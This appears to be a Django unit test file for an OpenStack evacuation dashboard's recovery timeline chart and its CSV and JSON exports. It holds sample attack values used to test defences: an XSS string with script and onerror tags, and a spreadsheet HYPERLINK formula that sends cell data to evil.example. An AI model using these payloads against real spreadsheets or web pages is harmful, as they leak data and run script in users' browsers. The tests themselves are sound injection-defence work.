"""The recovery timeline: the chart on the progress page and its CSV and JSON exports
(``content.batches.timeline``, ``templatetags.evac_timeline``, ``_timeline.html``)."""
import csv
from datetime import datetime, timedelta, timezone
import io
import json

from django.template.loader import render_to_string
from django.test import override_settings
from django.urls import reverse
from requests.packages.urllib3.connection import HTTPConnection

from openstack_dashboard.test import helpers as test

from evac_dashboard.content.batches import timeline
from evac_dashboard.models import AuditRecord
from evac_dashboard.models import EvacuationBatch as Batch
from evac_dashboard.models import EvacuationItem as Item
from evac_dashboard.operations import submission
from evac_dashboard.rules import request as evac_request
from evac_dashboard.store import batches
from tests.unit.factories import ADMIN, servers_on
from tests.unit.fakes.evacuating_nova import serve_progress_page
from tests.unit.fakes.nova import fake_request

T0 = datetime(2026, 12, 3, 8, 0, tzinfo=timezone.utc)
HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
AJAX = {"HTTP_X_REQUESTED_WITH": "XMLHttpRequest", "HTTP_ACCEPT": "application/json"}


def at(seconds):
    return T0 + timedelta(seconds=seconds)


def url(name, batch):
    return reverse("horizon:admin:evac_batches:" + name, args=[getattr(batch, "pk", batch)])


def finished_batch(names=("vm0", "vm1"), host="cmp1"):
    """A finished recovery: fenced 0-8 s, forced down 10-11 s, batch at 59 s, every
    instance sent at 60-63 s and done at 88 s (the last one failed if named "fail")."""
    batch = Batch.objects.create(kind=Batch.KIND_HOST, source_host=host,
                                 state=Batch.FINISHED, user_id="u-1", project_id="p-1",
                                 microversion="2.94", created_at=at(59), started_at=at(59),
                                 finished_at=at(63))
    for n, name in enumerate(names):
        Item.objects.create(batch=batch, instance_id="i-%d" % n, instance_name=name,
                            position=n, submit_state=Item.SUBMITTED, submitting_at=at(60),
                            submitted_at=at(63), outcome_attempt=1,
                            outcome_state="failed" if name == "fail" else "done",
                            outcome_at=at(88), outcome_host="cmp2",
                            stages=["submitted", "rebuilding", "rebuild_spawning", "done"],
                            stages_attempt=1)
    for action, start, end in ((AuditRecord.FENCE, 0, 8), (AuditRecord.FORCE_DOWN, 10, 11)):
        AuditRecord.objects.create(action=action, source_host=host, created_at=at(start),
                                   completed_at=at(end), outcome=AuditRecord.SUCCEEDED,
                                   user_name="admin")
    return batch


class TimelineExportTests(test.BaseAdminViewTests):
    def test_json_has_every_lane_phase_and_the_breakdown(self):
        batch = finished_batch()
        res = self.client.get(url("timeline_json", batch))
        self.assertEqual(200, res.status_code)
        self.assertTrue(res["Content-Type"].startswith("application/json"))
        self.assertIn("attachment", res["Content-Disposition"])
        data = json.loads(res.content)
        self.assertTrue(data["final"])
        self.assertEqual(88, data["total_seconds"])
        self.assertEqual({"fencing": 8, "waiting": 50, "forcing_down": 1, "sending": 4,
                          "rebuilding": 25},
                         {p["phase"]: p["seconds"] for p in data["breakdown"]})
        self.assertEqual(["host", "batch", "instance", "instance"],
                         [lane["kind"] for lane in data["lanes"]])
        vm0 = data["lanes"][2]
        self.assertEqual(("vm0", "i-0", "done", "cmp2"),
                         (vm0["name"], vm0["instance_id"], vm0["end"], vm0["host"]))
        self.assertEqual([("queued", 1), ("sending", 3), ("rebuilding", 25)],
                         [(s["phase"], s["seconds"]) for s in vm0["segments"]])
        self.assertEqual("2026-12-03T08:01:00.000000Z", vm0["segments"][1]["start"])
        self.assertEqual(["fencing", "forcing_down"],
                         [s["phase"] for s in data["lanes"][0]["segments"]])

    def test_csv_rows_and_totals(self):
        batch = finished_batch()
        res = self.client.get(url("timeline_csv", batch))
        self.assertEqual(200, res.status_code)
        self.assertTrue(res["Content-Type"].startswith("text/csv"))
        self.assertIn('filename="evacuation-timeline-%s.csv"' % batch.pk,
                      res["Content-Disposition"])
        rows = list(csv.DictReader(io.StringIO(res.content.decode())))
        self.assertEqual(list(timeline.CSV_COLUMNS), list(rows[0].keys()))
        sending = [r for r in rows if r["name"] == "vm1" and r["phase"] == "sending"]
        self.assertEqual(("3.000", "2026-12-03T08:01:00.000000Z"),
                         (sending[0]["seconds"], sending[0]["start_utc"]))
        total = rows[-1]
        self.assertEqual(("total", "final", "88.000"),
                         (total["lane"], total["phase"], total["seconds"]))
        self.assertIn(("breakdown", "rebuilding", "25.000"),
                      [(r["lane"], r["phase"], r["seconds"]) for r in rows])

    def test_csv_defuses_formulas_in_names_and_hosts(self):
        batch = finished_batch(names=(FORMULA, "@SUM(A1)", "-2+3"), host="+cmp1")
        rows = list(csv.DictReader(io.StringIO(
            self.client.get(url("timeline_csv", batch)).content.decode())))
        names = {r["name"] for r in rows}
        self.assertIn("'" + FORMULA, names)
        self.assertIn("'@SUM(A1)", names)
        self.assertIn("'-2+3", names)
        self.assertIn("'+cmp1", names)  # the host and batch lanes
        for row in rows:
            for value in row.values():
                self.assertFalse(value.startswith(("=", "+", "-", "@")), value)

    def test_json_escapes_markup_in_hostile_names(self):
        batch = finished_batch(names=(HOSTILE,))
        res = self.client.get(url("timeline_json", batch))
        body = res.content.decode()
        self.assertNotIn("<", body)
        self.assertNotIn(">", body)
        self.assertEqual(HOSTILE, json.loads(body)["lanes"][2]["name"])

    def test_unknown_batch(self):
        res = self.client.get(url("timeline_json", "not-a-uuid"))
        self.assertEqual(404, res.status_code)
        self.assertEqual("not_found", json.loads(res.content)["code"])
        res = self.client.get(url("timeline_csv", "7a3a7c8e-0000-4000-8000-000000000000"))
        self.assertEqual(404, res.status_code)
        res = self.client.get(url("timeline", "7a3a7c8e-0000-4000-8000-000000000000"))
        self.assertEqual(404, res.status_code)

    def test_the_chart_alone_for_the_progress_pages_redraws(self):
        batch = finished_batch(names=(HOSTILE,))
        res = self.client.get(url("timeline", batch))
        self.assertEqual(200, res.status_code)
        body = res.content.decode()
        self.assertTrue(body.strip().startswith("<section class=\"evac-timeline\""))
        self.assertIn("Total time to recovery: <strong>88 s</strong>", body)
        self.assertNotIn("<script", body)
        self.assertEqual("no-store", res["Cache-Control"])


class TimelineChartTests(test.BaseAdminViewTests):
    def render(self, batch):
        return render_to_string("evac_dashboard/batches/_timeline.html", {"batch": batch})

    def test_chart_has_a_lane_each_and_the_total_in_words(self):
        batch = finished_batch()
        html = self.render(batch)
        self.assertIn("<svg", html)
        self.assertIn("Total time to recovery: <strong>88 s</strong>", html)
        self.assertIn("Where it went: fencing 8 s, between steps (nothing recorded) 50 s, "
                      "forcing down 1 s, sending 4 s, rebuild in Nova 25 s.", html)
        self.assertEqual(2, html.count("evac-timeline-end-done"))
        self.assertIn("Host cmp1", html)
        self.assertIn(url("timeline_csv", batch), html)
        self.assertIn(url("timeline_json", batch), html)
        self.assertNotIn("<script", html)
        self.assertNotIn("style=", html)

    @override_settings(EVAC_SERVICE_DOWN_TIME=60)
    def test_the_chart_starts_at_the_hosts_last_heartbeat(self):
        batch = finished_batch()
        AuditRecord.objects.filter(action=AuditRecord.FENCE).update(options={
            "nova_state": "down", "nova_last_heartbeat": "2026-12-03T07:58:00.000000"})
        html = self.render(batch)
        self.assertIn("Total time to recovery: <strong>3 min 28 s</strong>", html)
        self.assertIn("Where it went: no heartbeat, Nova still showed it up 60 s, Nova "
                      "showed it down, nothing done yet 60 s, fencing 8 s,", html)
        self.assertIn("evac-timeline-mark-last_heartbeat", html)
        self.assertIn("evac-timeline-mark-seen_down", html)
        self.assertIn("Host cmp1: last heartbeat from nova-compute at "
                      "2026-12-03T07:58:00Z UTC", html)
        document = timeline.document(batch, timeline.timeline_reads.timeline(batch))
        host = document["lanes"][0]
        self.assertEqual(["silent", "seen_down", "fencing", "forcing_down"],
                         [s["phase"] for s in host["segments"]])

    def test_hostile_instance_names_are_escaped(self):
        html = self.render(finished_batch(names=(HOSTILE,), host="<b>cmp1</b>"))
        self.assertNotIn("<script", html)
        self.assertNotIn("<img", html)
        self.assertNotIn("<b>cmp1", html)
        self.assertIn("&lt;script&gt;", html)
        self.assertIn("&lt;b&gt;cmp1&lt;/b&gt;", html)

    def test_a_running_batch_says_so_so_far(self):
        batch = Batch.objects.create(kind=Batch.KIND_HOST, source_host="cmp1",
                                     state=Batch.SUBMITTING, user_id="u", project_id="p",
                                     microversion="2.94")
        Item.objects.create(batch=batch, instance_id="i-0", instance_name="vm0", position=0)
        html = self.render(batch)
        self.assertIn("Time so far:", html)
        self.assertIn("still going on", html)

    def test_a_big_batch_shows_the_first_lanes_and_says_so(self):
        batch = finished_batch(names=["vm%d" % n for n in range(timeline.MAX_INSTANCE_LANES
                                                                 + 5)])
        html = self.render(batch)
        self.assertIn("The chart shows the first %d of %d instances"
                      % (timeline.MAX_INSTANCE_LANES, timeline.MAX_INSTANCE_LANES + 5), html)

    def test_a_failure_to_draw_leaves_the_page_up(self):
        from unittest import mock
        with mock.patch.object(timeline, "chart_for", side_effect=RuntimeError("boom")):
            html = self.render(finished_batch())
        self.assertIn("could not be drawn", html)

    def test_durations_read_as_words(self):
        self.assertEqual("0.4 s", timeline.duration(0.42))
        self.assertEqual("8 s", timeline.duration(8.0))
        self.assertEqual("42 s", timeline.duration(42))
        self.assertEqual("3 min 5 s", timeline.duration(185))
        self.assertEqual("3 min", timeline.duration(180))
        self.assertEqual("2 h", timeline.duration(7200))
        self.assertEqual("2 h 10 min", timeline.duration(7800))
        self.assertEqual("3 d 4 h", timeline.duration(3 * 86400 + 4 * 3600))


@override_settings(EVAC_NOVA_MICROVERSION=None, EVAC_PROGRESS_CACHE_SECONDS=0)
class TimelineOnTheProgressPageTests(test.BaseAdminViewTests):
    """The chart at the bottom of the real progress page, for a batch really sent to a
    fake Nova and finished."""

    def setUp(self):
        super().setUp()
        HTTPConnection.connect = self._real_conn_request
        self.nova = serve_progress_page(self)

    def test_progress_page_of_a_finished_batch_draws_the_timeline(self):
        servers = servers_on("cmp1", 2)
        servers[0]["name"] = HOSTILE
        self.nova.add_servers(servers)
        batch = batches.create_batch(
            kind=Batch.KIND_HOST, source_host="cmp1", servers=servers,
            options=evac_request.EvacuateOptions(), microversion="2.94", initiator=ADMIN)
        submission.start(batch, submission.Credentials.from_request(
            fake_request(self.nova.endpoint)), executor=submission.InlineExecutor())
        self.nova.finish_all()
        self.client.get(url("detail", batch))  # the first look records the outcomes
        res = self.client.get(url("detail", batch))
        self.assertEqual(200, res.status_code)
        html = res.content.decode()
        section = html.split('id="evac-timeline"', 1)[1].split("</section>", 1)[0]
        self.assertIn("Total time to recovery", section)
        self.assertEqual(2, section.count("evac-timeline-end-done"))
        self.assertNotIn("<script", section)
        self.assertNotIn("<img", section)
        self.assertIn(url("timeline_json", batch), section)


class TimelineMemberTests(test.TestCase):
    """Horizon's plain ``TestCase`` user is a member (no admin role)."""

    def test_member_is_refused(self):
        batch = finished_batch()
        for name in ("timeline_csv", "timeline_json", "timeline"):
            res = self.client.get(url(name, batch))
            self.assertEqual(403, res.status_code, name)
        res = self.client.get(url("timeline_json", batch), **AJAX)
        self.assertNotEqual(200, res.status_code)
